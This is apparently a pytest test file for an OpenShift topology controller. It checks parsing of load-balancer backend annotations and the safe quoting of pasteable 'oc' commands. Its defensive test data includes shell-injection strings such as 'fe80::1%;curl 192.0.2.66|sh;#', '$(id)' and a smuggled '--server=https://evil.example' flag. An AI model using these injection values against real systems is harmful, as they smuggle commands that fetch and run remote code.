"""Who manages the load balancer, what confirms that it leads to every node, and commands that are safe to paste."""

from __future__ import annotations

import dataclasses
import shlex
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from topology_api.types import MESSAGE_LIMIT, TopologyPair, TopologyTransition
from topology_api.vocabulary import AdvisoryName, CheckName, CheckStatus, Phase, Stage
from topology_controller import shell
from topology_controller.checks import catalog, etcd, load_balancer
from topology_controller.decide import admission
from topology_controller.definitions import model, settings
from topology_controller.observe import facts, parse
from topology_controller.observe import nodes as observed

from . import worlds

A, B, C = worlds.ADDRESSES
NAME = AdvisoryName.LOAD_BALANCER_BACKENDS_UNCONFIRMED
ANNOTATION = "topology.openshift.io/load-balancer-backends"
COMMAND = f"oc annotate clusteroperator topology --overwrite {ANNOTATION}="
PLATFORMS = ("BareMetal", "Nutanix", "OpenStack", "VSphere")
STRICT = settings.applied(
    worlds.TRANSITIONS, settings.DEFAULTS.model_copy(update={"require_load_balancer_backends": True})
)
COMPLETED = TopologyTransition(
    phase=Phase.COMPLETED, source=worlds.SNO, target=worlds.HA, admitted_time=worlds.NOW, checks=()
)


def infrastructure(platform: object, front: object = None, **status: object) -> facts.Infrastructure:
    """Infrastructure as the API server has it, with that object under the name of the platform."""
    key = platform.lower() if isinstance(platform, str) else "none"
    body = {"controlPlaneTopology": "SingleReplica", "platformStatus": {"type": platform, key: front}, **status}
    return parse.infrastructure({"metadata": {"name": "cluster"}, "status": body})


def annotated(value: object) -> facts.Backends | None:
    """ClusterOperator topology with that annotation."""
    return parse.own_operator({"metadata": {"name": "topology", "annotations": {ANNOTATION: value}}}).backends


@pytest.mark.parametrize(
    ("value", "read"),
    [
        (f" {A} ,\t{B}\n{C},, ", facts.Backends((A, B, C))),
        (f"{A} {B},{B}", facts.Backends((A, B), repeated=(B,))),
        ("2001:0DB8:0000::0001,[2001:db8::2]", facts.Backends(("2001:db8::1", "2001:db8::2"))),
        (" , ", facts.Backends(())),
        (f"{A},foo", facts.Backends((A,), wrong=((2, "foo"),))),
        ("10.0.0.0/24", facts.Backends(wrong=((1, "10.0.0.0/24"),))),
        (f"{A}:6443,{B}", facts.Backends((B,), wrong=((1, f"{A}:6443"),))),
    ],
)
def test_an_annotation_is_addresses_between_commas_and_blanks(value: str, read: facts.Backends) -> None:
    """What is no address is kept with its place."""
    assert annotated(value) == read


NO_TEXT: tuple[object, ...] = (None, 7, [A], {})


def test_what_is_longer_than_it_may_be_is_not_read_and_what_is_no_text_is_not_there() -> None:
    fits = ",".join([A] * 400)[: facts.Backends.LONGEST].rpartition(",")[0]
    assert annotated(fits) == facts.Backends((A,), repeated=(A,))
    assert annotated(f"{A}," + " " * facts.Backends.LONGEST) == facts.Backends(too_long=True)
    assert annotated("é" * (facts.Backends.LONGEST // 2 + 1)) == facts.Backends(too_long=True), "bytes, not characters"
    assert all(annotated(value) is None for value in NO_TEXT)


IPS = st.ip_addresses().map(str)
ANYTHING: st.SearchStrategy[Any] = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text()
    | IPS
    | st.sampled_from(("UserManaged", "https://[::", "\x1b[2J")),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(("loadBalancer", "type", "apiServerInternalIPs", "apiServerInternalIP", "x")),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@given(st.sampled_from((*PLATFORMS, "None", "External", "AWS", "Odd")), ANYTHING, ANYTHING, ANYTHING, ANYTHING)
@example("BareMetal", {"loadBalancer": "x"}, None, None, "\ud800")
@example("BareMetal", {"apiServerInternalIPs": ["api.example.com"]}, "https://[::", 7, None)
def test_whatever_stands_there_the_rest_is_read_and_only_an_address_makes_it_the_clusters(
    platform: str, front: Any, url: Any, uri: Any, annotation: Any
) -> None:
    read = infrastructure(platform, front, apiServerURL=url, apiServerInternalURI=uri)
    assert read.control_plane == "SingleReplica"
    outside, why = load_balancer.managed_outside(read)
    assert why.isprintable()
    assert len(why) < MESSAGE_LIMIT
    if outside is False and platform in PLATFORMS:
        assert isinstance(read.load_balancer, facts.LoadBalancer)
        assert read.load_balancer.addresses
        assert read.load_balancer.type in {None, "OpenShiftManagedDefault"}
    own = worlds.own(backends=annotated(annotation))
    known = dataclasses.replace(worlds.healthy(), infrastructure=read, own_operator=own)
    (answer,) = asked(known)
    assert answer.message.isprintable()
    assert len(answer.message) <= MESSAGE_LIMIT
    told = load_balancer.unconfirmed(known, worlds.HA, None)
    assert (told is None) == (outside is not True)
    if told is not None:
        assert told.message.isprintable()
        assert told.command == COMMAND + ",".join(worlds.ADDRESSES)


VIPS = {"apiServerInternalIPs": ["192.0.2.5", "2001:0db8::5"]}
BARE: tuple[object, ...] = (None, {"loadBalancer": {"type": "OpenShiftManagedDefault"}}, {"apiServerInternalIPs": []})
USER = {"loadBalancer": {"type": "UserManaged"}}
DEFAULT = {"loadBalancer": {"type": "OpenShiftManagedDefault"}}


@pytest.mark.parametrize(
    ("platform", "front", "outside", "why"),
    [
        ("None", None, True, "On platform None the cluster manages no load balancer"),
        ("External", None, True, "On platform External"),
        ("AWS", None, False, "On platform AWS"),
        ("Odd", None, False, "On platform Odd"),
        (None, None, None, "names no platform"),
        *((platform, USER, True, "UserManaged") for platform in PLATFORMS),
        *((platform, {**USER, **VIPS}, True, "UserManaged") for platform in PLATFORMS),
        *((platform, VIPS, False, "192.0.2.5, 2001:db8::5") for platform in PLATFORMS),
        *((platform, {**DEFAULT, **VIPS}, False, "192.0.2.5") for platform in PLATFORMS),
        *((platform, {"apiServerInternalIP": "192.0.2.5"}, False, "192.0.2.5") for platform in PLATFORMS),
        *(
            (platform, {**VIPS, "loadBalancer": {"type": "Odd\x1b"}}, None, 'type "Odd\\x1b"')
            for platform in PLATFORMS
        ),
        *((platform, front, None, "has no apiServerInternalIPs for it")
          for platform in PLATFORMS[:3] for front in BARE),
        *(("VSphere", front, True, "no apiServerInternalIPs: its load balancer is the user's")
          for front in BARE),
        *((platform, {"loadBalancer": 7}, None, "malformed: ") for platform in PLATFORMS),
        *((platform, {"apiServerInternalIPs": ["x"]}, None, "malformed: ") for platform in PLATFORMS),
    ],
)  # fmt: skip
def test_who_manages_the_load_balancer(platform: str | None, front: object, outside: object, why: str) -> None:
    managed, because = load_balancer.managed_outside(infrastructure(platform, front))
    assert managed is outside
    assert why in because


def cluster(backends: facts.Backends | None, **changes: Any) -> facts.Facts:
    return dataclasses.replace(worlds.healthy(), own_operator=worlds.own(backends=backends), **changes)


def told(
    known: facts.Facts, target: TopologyPair = worlds.HA, record: TopologyTransition | None = None
) -> tuple[str, str] | None:
    advisory = load_balancer.unconfirmed(known, target, record)
    return None if advisory is None else (advisory.message, advisory.command)


def nodes(*addresses: tuple[str, ...]) -> tuple[facts.Node, ...]:
    return tuple(worlds.node(0, name=f"node-{index}", addresses=own) for index, own in enumerate(addresses))


@pytest.mark.parametrize("record", [None, COMPLETED], ids=["before", "after"])
def test_it_names_every_node_until_each_is_confirmed(record: TopologyTransition | None) -> None:
    front = facts.LoadBalancer(api_host="api.example.com", api_internal_host="api-int.example.com")
    known = cluster(None, infrastructure=worlds.infrastructure(load_balancer=front))
    message, command = told(known, record=record) or ("", "")
    assert "where api.example.com and api-int.example.com lead" in message
    assert f"Not confirmed: {A} (node-0), {B} (node-1), {C} (node-2). " in message
    assert command == f"{COMMAND}{A},{B},{C}"
    message, command = told(cluster(facts.Backends((C, A))), record=record) or ("", "")
    assert f"Not confirmed: {B} (node-1). Confirmed: {A} (node-0), {C} (node-2). " in message
    assert command == f"{COMMAND}{A},{B},{C}"
    assert told(cluster(facts.Backends((C, A, B))), record=record) is None
    joined = nodes((A,), (B,), (C,), ("192.0.2.13",))
    message, _ = told(cluster(facts.Backends(worlds.ADDRESSES), control_plane_nodes=joined), record=record) or ("", "")
    assert "Not confirmed: 192.0.2.13 (node-3). " in message


def test_an_entry_that_is_no_address_is_quoted_and_nothing_is_confirmed_by_such_an_annotation() -> None:
    message, _ = told(cluster(annotated(f"{A},{B},{C},master-1"))) or ("", "")
    assert f'entry 4 ("master-1") is no address: write {A},{B},{C}' in message
    message, _ = told(cluster(annotated("all five of them\x1b[2J, please do"))) or ("", "")
    assert 'entry 1 ("all"), entry 2 ("five"), entry 3 ("of") and 3 more are no addresses: write ' in message
    assert "\x1b" not in message
    message, _ = told(cluster(facts.Backends(too_long=True))) or ("", "")
    assert "longer than 4096 bytes" in message


def test_it_is_for_a_control_plane_that_changes_and_for_what_could_be_read() -> None:
    known = cluster(None)
    assert told(known, worlds.SNO) is None
    moved = worlds.infrastructure(control_plane="HighlyAvailable")
    only_infrastructure = COMPLETED.model_copy(
        update={"source": TopologyPair(control_plane="HighlyAvailable", infrastructure="SingleReplica")}
    )
    assert told(dataclasses.replace(known, infrastructure=moved)) is None
    assert told(known, record=only_infrastructure) is None
    assert told(dataclasses.replace(known, infrastructure=moved), record=COMPLETED) is not None
    rebuilt = COMPLETED.model_copy(update={"source": None})
    assert told(dataclasses.replace(known, infrastructure=moved), record=rebuilt) is not None
    for field in ("infrastructure", "own_operator", "control_plane_nodes"):
        assert told(worlds.unread(known, field)) is None
    assert told(dataclasses.replace(known, control_plane_nodes=())) is None
    assert told(dataclasses.replace(known, own_operator=worlds.MISSING)) is not None, "nothing was confirmed yet"


def test_a_message_and_a_command_fit_whatever_there_is() -> None:
    many = tuple(
        worlds.node(0, name=f"{'n' * 200}-{index}", addresses=(f"192.0.{index // 250}.{index % 250}",))
        for index in range(1000)
    )
    for listed, command in ((many, "oc get nodes -l "), (nodes(()), "oc get nodes -l "), (many[:250], COMMAND)):
        message, told_command = told(cluster(None, control_plane_nodes=listed)) or ("", "")
        assert max(len(message), len(told_command)) <= MESSAGE_LIMIT
        assert told_command.startswith(command), "half a command is worse than none"


def asked(known: facts.Facts, definition: model.Definition | None = None) -> list[Any]:
    found = definition or STRICT.named("sno-to-ha-compact")
    assert found is not None
    results = catalog.ask(Stage.PREFLIGHT, found, known, worlds.NOW)
    return [result for result in results if result.name is CheckName.LOAD_BALANCER_BACKENDS]


def test_it_waits_for_every_node_and_names_the_advisory() -> None:
    (answer,) = asked(cluster(facts.Backends((A,))))
    assert answer.status is CheckStatus.UNMET
    assert f"Wanted: {B} (node-1), {C} (node-2) in annotation" in answer.message
    assert NAME in answer.message
    assert (answer.count.have, answer.count.wanted) == (1, 3)
    assert [(finding.name, finding.status is CheckStatus.MET) for finding in answer.findings] == [
        ("node-0", True),
        ("node-1", False),
        ("node-2", False),
    ]
    (answer,) = asked(cluster(None))
    assert "Found: no such annotation" in answer.message
    (answer,) = asked(cluster(annotated(f"{A},{B},{C},foo")))
    assert answer.status is CheckStatus.UNMET
    assert "Wanted: addresses only in annotation" in answer.message
    assert 'Found: entry 4 ("foo") is no address' in answer.message


def test_what_was_not_read_is_never_met() -> None:
    for field in ("own_operator", "control_plane_nodes", "infrastructure"):
        (answer,) = asked(worlds.unread(worlds.healthy(), field))
        assert answer.status is CheckStatus.UNKNOWN
        assert str(worlds.BROKEN) in answer.message
    (answer,) = asked(cluster(facts.Backends(worlds.ADDRESSES), control_plane_nodes=(worlds.node(), worlds.BROKEN)))
    assert answer.status is CheckStatus.UNKNOWN
    (answer,) = asked(cluster(facts.Backends(worlds.ADDRESSES), control_plane_nodes=()))
    assert answer.status is CheckStatus.UNKNOWN, "an empty list proves nothing"


def test_a_definition_may_ask_it_by_itself_and_then_the_message_has_the_command() -> None:
    spec = model.CheckSpec(check=CheckName.LOAD_BALANCER_BACKENDS)
    infra = worlds.named("infra-to-ha")
    definition = infra.model_copy(update={"preflight": (*infra.preflight, spec)})
    (answer,) = asked(cluster(None), definition)
    assert answer.message.endswith(f"Once it leads to every node: {COMMAND}{A},{B},{C}")
    with pytest.raises(ValueError, match="does not take atLeast"):
        model.CheckSpec.model_validate_json('{"check": "LoadBalancerBackends", "atLeast": 3}')


def test_what_is_available_is_judged_by_it_where_the_configuration_asks() -> None:
    known = worlds.unread(cluster(None), "acceptances")
    for transitions, possible in ((worlds.TRANSITIONS, True), (STRICT, False)):
        items = admission.available(known, transitions, worlds.NOW) or ()
        (item,) = (each for each in items if each.name == "sno-to-ha-compact")
        assert item.available is possible
        assert [blocker.name for blocker in item.blockers] == ([] if possible else ["LoadBalancerBackends"])


SCOPES = ["fe80::1%;curl 192.0.2.66|sh;#", "fe80::9%$(id)", "fe80::1%eth0", "[fe80::1%eth0]"]
EVIL = ["x'; touch /tmp/x; echo '", "$(id)", "`id`", "a b", "\\'", 'a"b', "*", "~root", "-x", "a\\", *SCOPES]


def pasted(text: str) -> list[str]:
    """The words of the command at the end of a message."""
    return shlex.split(text[text.index("oc ") :])


@pytest.mark.parametrize("evil", [*EVIL, "--server=https://evil.example"])
def test_no_value_is_taken_for_a_flag_or_for_several_words(evil: str) -> None:
    last = shell.command("oc adm policy add-cluster-role-to-user reader {}", evil)
    behind = [*(["--"] if evil.startswith("-") else []), evil]
    assert shlex.split(last) == ["oc", "adm", "policy", "add-cluster-role-to-user", "reader", *behind]
    assert shlex.split(shell.command("oc -n {} get x={}", evil, evil)) == ["oc", "-n", evil, "get", f"x={evil}"]


@pytest.mark.parametrize("evil", SCOPES)
def test_an_address_with_a_scope_is_no_backend_and_no_voter(evil: str) -> None:
    raw = {
        "metadata": {"name": "node-0", "labels": {"node-role.kubernetes.io/master": ""}},
        "status": {"addresses": [{"type": "InternalIP", "address": evil}]},
    }
    node = observed.node(raw)
    assert isinstance(node, facts.Node)
    assert node.addresses == ()
    assert (
        load_balancer.compare([node], None).command == "oc get nodes -l node-role.kubernetes.io/control-plane -o wide"
    )
    read = annotated(evil)
    assert read is not None
    assert read.addresses == ()
    entries = tuple(zip(worlds.MEMBERS, (*worlds.ADDRESSES[:2], evil), strict=True))
    voters = etcd.members(worlds.healthy(etcd_endpoints=facts.EtcdEndpoints(entries)))
    assert isinstance(voters, facts.Unobserved)
    assert "no IP address" in voters.why


def test_a_node_has_its_own_addresses_of_both_families_in_one_form() -> None:
    """In capital letters and written out, as somebody may; etcd-endpoints has the short form."""
    raw = {
        "metadata": {"name": "node-0", "labels": {"node-role.kubernetes.io/master": ""}},
        "status": {
            "addresses": [
                {"type": "InternalIP", "address": "192.0.2.10"},
                {"type": "InternalIP", "address": "2001:0DB8:0000::0001"},
                {"type": "Hostname", "address": "192.0.2.99"},
            ]
        },
    }
    assert observed.node(raw).addresses == ("192.0.2.10", "2001:db8::1")


@pytest.mark.parametrize("evil", EVIL)
def test_the_command_that_confirms_backends(evil: str) -> None:
    node = worlds.node(addresses=(evil,))
    words = pasted(load_balancer.compare([node], None).command)
    assert words[-1] == f"topology.openshift.io/load-balancer-backends={evil}"


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://[2001:DB8:0::1]:6443", "2001:db8::1"),
        ("https://\x1b[2J.example.com", None),
        (f"https://{'a' * 2000}", None),
        (7, None),
    ],
)
def test_the_host_of_a_url(url: object, host: str | None) -> None:
    front = infrastructure("None", apiServerURL=url, apiServerInternalURI=url).load_balancer
    assert front == facts.LoadBalancer(api_host=host, api_internal_host=host)
